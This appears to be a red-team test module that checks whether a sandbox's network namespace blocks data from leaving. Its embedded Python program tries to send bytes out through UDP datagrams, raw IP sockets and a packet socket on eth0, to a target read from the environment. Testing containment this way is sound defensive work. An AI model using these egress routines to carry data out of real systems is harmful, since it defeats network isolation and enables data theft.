"""Send data out by datagrams and raw sockets, which need no answer."""

from red_team.moves import judge_words, program_moves

AIM = "to carry data out"
DEFENCE = "network namespace, no capabilities"

PROGRAM = """
import json, os
targets = json.loads(os.environ["TARGETS"])
import socket
sent = []
for what, family, kind, address in [
    ("datagram", socket.AF_INET, socket.SOCK_DGRAM, (targets["address"], targets["port"])),
    ("raw packet", socket.AF_INET, socket.SOCK_RAW, (targets["address"], 0)),
    ("packet socket", socket.AF_PACKET, socket.SOCK_RAW, ("eth0", 0)),
]:
    try:
        with socket.socket(family, kind) as out:
            out.sendto(b"data" * 20, address)
        sent.append(what)
    except OSError as error:
        print(what, "not sent:", error)
print("done: sent a " + ", a ".join(sent) if sent else "nothing was sent")
"""

attempt, control = program_moves(PROGRAM, judge_words)
